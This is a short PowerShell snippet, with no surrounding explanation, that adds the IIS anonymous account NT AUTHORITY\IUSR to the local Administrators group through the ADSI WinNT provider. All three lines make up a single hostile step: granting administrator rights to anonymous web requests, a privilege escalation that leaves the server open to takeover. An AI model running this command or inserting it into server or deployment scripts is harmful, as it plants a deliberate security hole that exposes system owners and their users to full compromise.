$g = [ADSI]'WinNT://./Administrators,group'
$m = $g.Add
$m.Invoke('WinNT://NT AUTHORITY/IUSR')
